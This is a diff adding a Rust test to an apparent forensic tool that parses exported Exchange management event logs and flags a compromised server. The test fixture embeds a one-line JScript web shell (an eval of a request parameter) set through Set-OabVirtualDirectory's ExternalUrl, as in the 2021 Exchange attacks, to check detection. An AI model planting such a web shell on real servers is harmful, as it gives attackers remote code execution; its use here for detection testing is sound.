@@ -1029,9 +1029,95 @@ fn an_address_asked_bare_finds_its_events() {
     assert_eq!(count("203.0.113.*"), range);
 }
 
+/// `Get-WinEvent | ConvertTo-Json` as Windows PowerShell 5.1 writes it (a BOM, one array, four
+/// spaces and `"Name":  value`, times as `/Date(ms)/`): each record is an event read under the
+/// EVTX record's names, its cmdlet read back from its message or from its `Properties` (written
+/// with `-Depth 3`), and the OAB web shell it records makes its server compromised. The file was
+/// "no known log format".
+#[test]
+fn get_winevent_converted_to_json_is_read_as_the_evtx() {
+    let record = |id: u64, ms: u64, message: &str, properties: &str| {
+        format!(
+            r#"    {{
+        "Id":  1,
+        "Version":  null,
+        "Qualifiers":  16388,
+        "Level":  4,
+        "RecordId":  {id},
+        "ProviderName":  "MSExchange CmdletLogs",
+        "ProviderId":  null,
+        "LogName":  "MSExchange Management",
+        "ProcessId":  null,
+        "MachineName":  "MXS01.corp.local",
+        "TimeCreated":  "\/Date({ms})\/",
+        "MatchedQueryIds":  [
+
+                            ],
+        "Bookmark":  {{
+
+                     }},
+        "LevelDisplayName":  "Information",
+        "Properties":  [
+{properties}
+                       ],
+        "Message":  {message}
+    }}"#
+        )
+    };
+    let opaque = "                           \"System.Diagnostics.Eventing.Reader.EventProperty\"";
+    let shell = r#"-ExternalUrl \"http://f/<script language=\\\"JScript\\\" runat=\\\"server\\\">function Page_Load(){eval(Request[\\\"zz9\\\"],\\\"unsafe\\\");}</script>\" -Identity \"OAB (Default Web Site)\""#;
+    let records = [
+        record(
+            3229,
+            1_615_704_012_987,
+            &format!(r#""Cmdlet succeeded. Cmdlet Set-OabVirtualDirectory, parameters {shell}.""#),
+            opaque,
+        ),
+        record(
+            3230,
+            1_615_704_013_987,
+            r#""Cmdlet succeeded. Cmdlet Get-Mailbox, parameters -ResultSize \"1\".""#,
+            "{ \"Value\":  \"Get-Mailbox\" },\n{ \"Value\":  \"-ResultSize \\\"1\\\"\" }",
+        ),
+    ];
+    let dir = tempfile::tempdir().unwrap();
+    let evidence = dir.path().join("evidence");
+    std::fs::create_dir_all(&evidence).unwrap();
+    let text = format!("\u{feff}[\n{}\n]\n", records.join(",\n"));
+    std::fs::write(evidence.join("MSExchangeManagement.json"), &text).unwrap();
+    let case = dir.path().join("case");
+    common::ingest(&case, &evidence);
+    let count = |q: &str| common::count(&case, q);
+    assert_eq!(count("*"), 2);
+    assert_eq!(
+        count("EventID:1 AND Channel:\"MSExchange Management\" AND source:msexchange-management"),
+        2
+    );
+    assert_eq!(
+        count("EventRecordID:3229 AND Cmdlet:Set-OabVirtualDirectory"),
+        1
+    );
+    assert_eq!(count("Cmdlet:Get-Mailbox AND Data1:Get-Mailbox"), 1);
+    assert_eq!(count("ts:2021-03-14T06:40:12"), 1);
+    let events = common::exported(&case, "Cmdlet:Set-OabVirtualDirectory");
+    assert_eq!(events[0]["host"], "MXS01");
+    assert_eq!(
+        events[0]["line"], 2,
+        "cited by the line its record starts on"
+    );
+    let report = hunt_json(&case);
+    assert_eq!(
+        finding_count(&report, "mgmt-oab-virtualdirectory-script"),
+        1
+    );
+    assert_eq!(report["verdicts"][0]["host"], "MXS01");
+    assert_eq!(report["verdicts"][0]["verdict"], "compromised");
+}
+
 /// An event log exported as CSV (`Get-WinEvent | Export-Csv`, the sample case's MSExchange
-/// Management) has its message read back into `Cmdlet` and `Parameters`: those are fields of the
-/// case to query, as from the EVTX (they were refused as unknown fields).
+/// Management) has its message read back into `Cmdlet` and `Parameters`, and its System values
+/// named as the EVTX record's (`Id` is `EventID`, `LogName` the `Channel`, the channel its
+/// `source`): fields of the case to query, as from the EVTX (they were refused as unknown).
 #[test]
 fn a_cmdlet_read_back_from_an_exported_message_is_a_field() {
     let case = sample_case();
@@ -1039,12 +1125,18 @@ fn a_cmdlet_read_back_from_an_exported_message_is_a_field() {
     let by_message = count("\"Cmdlet succeeded. Cmdlet Set-OabVirtualDirectory\"");
     assert!(by_message > 0);
     assert_eq!(
-        count("Cmdlet:Set-OabVirtualDirectory AND source:eventlog"),
+        count("Cmdlet:Set-OabVirtualDirectory AND source:msexchange-management"),
         by_message
     );
     assert_eq!(
         count("Parameters:*ExternalUrl* AND Cmdlet:Set-OabVirtualDirectory"),
         by_message
+    );
+    assert_eq!(
+        count(
+            "EventID:1 AND Channel:\"MSExchange Management\" AND Provider:\"MSExchange CmdletLogs\""
+        ),
+        count("source:msexchange-management AND \"Cmdlet succeeded\"")
     );
 }
 
